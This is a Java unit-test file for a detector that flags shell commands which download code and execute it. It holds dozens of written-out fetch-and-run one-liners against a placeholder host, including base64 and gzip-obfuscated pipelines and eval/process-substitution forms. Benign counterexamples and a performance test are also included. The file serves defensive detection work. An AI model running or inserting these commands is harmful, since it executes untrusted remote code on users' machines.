package org.imprimatur.inspect.rules;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class FetchedCodeTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "curl -s https://x.example/run | sh",
                "wget -qO- https://x.example/run | sudo bash -s",
                "curl -s https://x.example/run.py | python3",
                "curl -s https://x.example/run.gz | gunzip | sh",
                "wget -qO- https://x.example/run | tee x | sudo -E -u root /bin/bash",
                "curl -s https://x.example/run.gz |\n  gunzip |\n  sh",
                "curl -s https://x.example/run.gz \\\n | base64 -d \\\n | sh",
                "sh -c 'curl -s https://x.example/run.gz | gunzip | sh'",
                "curl -s 'https://x.example/run?a|b;c' | grep -v \"#|;\" | env A=1 python3 -",
                "curl -s https://x.example/run.gz | gunzip |& ash",
                "/bin/sh -c '$(curl -s https://x.example)'",
                "bash <(curl -s https://x.example)",
                "source <(wget -qO- https://x.example)",
                "eval \"$(curl -s https://x.example)\"",
                "wget -q -O /tmp/job https://x.example && sh /tmp/job",
                "curl -so /tmp/job https://x.example; chmod +x /tmp/job; /tmp/job",
                "curl https://x.example > job.sh && ./job.sh",
                "curl --output=job https://x.example\nbash -x job",
                "wget https://x.example -O /opt/p\nexec /opt/p",
                "curl -H 'A: b>c' -o job https://x.example; sh job",
                "curl -s https://x.example | tee /tmp/job; sh /tmp/job",
                "curl -s https://x.example | sudo tee -a /tmp/job | wc -l && /tmp/job",
                "curl -s https://x.example 2> /dev/null >/tmp/job; sh /tmp/job",
                "curl -s https://x.example 2>/dev/null >> /tmp/job; sh /tmp/job",
                "wget -qO- https://x.example | gunzip > /tmp/job; chmod +x /tmp/job",
                "curl -s https://x.example | perl -pe 's/a/b/' > /tmp/job; sh /tmp/job",
                "curl -s https://x.example | python3 -c 'import cloudpickle as p; p.load(0)'",
                "curl -s https://x.example | python3 -c 'import yaml, sys; yaml.load(sys.stdin)'",
                "curl -s https://x.example | perl5.36",
                "curl -s https://x.example | python3 -c 'import sys; print(1)' | sh",
                "curl -s https://x.example | python3 -i -c 'print(1)'",
                "curl -s https://x.example | python3 -c 'import sys; exec(sys.stdin.read())'",
                "curl -s https://x.example | python3 -c 'import os; os.system(input())'",
                "curl -s https://x.example | python3 -c 'print(1)'\"exec(input())\"",
                "curl -s https://x.example | python3 -c \"$CODE\"",
                "curl -s https://x.example | python3 -c $CODE",
                "curl -s https://x.example | python3 -m code",
                "curl -s https://x.example | python3 -m pdb",
                "curl -s https://x.example | python3 -m json.tool.mine",
                "curl -s https://x.example | python3 /dev/stdin",
                "curl -s https://x.example | perl -n",
                "curl -s https://x.example | perl -d -e 'print'",
                "curl -s https://x.example | perl -ne 'eval'",
                "curl -s https://x.example | perl -ne 'print' -e ';eval'",
                "curl -s https://x.example | perl -pe 's/(.*)/$1/ee'",
                "curl -s https://x.example | perl -ne 'open F, \"|sh\"; print F'",
                "curl -s https://x.example | ruby -ne 'puts `#{$_}`'",
                "curl -s https://x.example | sh -s",
                "curl -s https://x.example | sh -c 'sh'",
                "bash -c 'curl '\"$URL | sh\"",
                "ansible-pull -U https://x.example"
            })
    void whatRunsWhatItFetchedIsTold(String command) {
        assertThat(FetchedCode.isIn(command)).isTrue();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "curl -s https://x.example/ping > /dev/null",
                "curl -s https://x.example | jq .a",
                "curl -s https://x.example | jq .a | grep sh",
                "curl -s https://x.example | grep -E 'a|sh' | wc -l",
                "curl -s https://x.example | awk -F'|' '{print $2}' | sort",
                "curl -s https://x.example | grep a || sh /opt/alarm",
                "curl -s https://x.example | gzip > /srv/a; cat /opt/b | sort | sh",
                "wget -O /srv/data.csv https://x.example && gzip -f /srv/data.csv",
                "curl -o /tmp/a https://x.example; rm /tmp/a",
                "sh /tmp/job; curl -o /tmp/job https://x.example",
                "/usr/bin/curl https://x.example/sh",
                "curl -s https://x.example | sort > /srv/a; gzip -f /srv/a",
                "curl -s https://x.example | tee /srv/a | wc -l; rm /srv/a",
                "curl -s https://x.example | python3 -m json.tool",
                "curl -s https://x.example | sudo -u a /usr/bin/python3 -Sm json.tool > /srv/a",
                "curl -s https://x.example |\\\n  python3 \\\n  -c 'import json, sys; print(json.load(sys.stdin)[\"a\"])'; sh /opt/b",
                "sh -c 'curl -s https://x.example | python3 -c \"import sys; print(sys.stdin.read())\"'",
                "sh -c \"curl -s https://x.example | python3 -c 'import sys; print(len(sys.stdin.read()))'\"",
                "curl -s https://x.example | perl -ne 'print if /a|b/' | sort",
                "curl -s https://x.example | perl -MJSON::PP -0777 -ne 'print decode_json($_)->{a}'",
                "curl -s https://x.example | perl -pe 's/a/b/g'",
                "curl -s https://x.example | perl -e 'while (<>) { print length, \"\\n\" }'",
                "curl -s https://x.example | ruby -rjson -e 'puts JSON.parse(STDIN.read)[\"a\"]'"
            })
    void whatOnlyFetchesIsNot(String command) {
        assertThat(FetchedCode.isIn(command)).isFalse();
    }

    @Test
    void aLongCommandTakesNoLongTime() {
        for (var command :
                List.of(
                        "curl -o a ".repeat(6_000) + "wget a> ".repeat(1_000),
                        "curl|".repeat(11_000),
                        "curl|sudo -a -a -a -a ".repeat(3_000),
                        "curl '\" ".repeat(8_000),
                        "curl | python3 -c '".repeat(4_000),
                        "curl|perl -0 -e '' ".repeat(4_000),
                        "curl|perl" + " -0".repeat(20_000),
                        "curl | python3 " + "-S ".repeat(20_000))) {
            Assertions.assertTimeoutPreemptively(
                    Duration.ofSeconds(5), () -> FetchedCode.isIn(command));
        }
    }
}
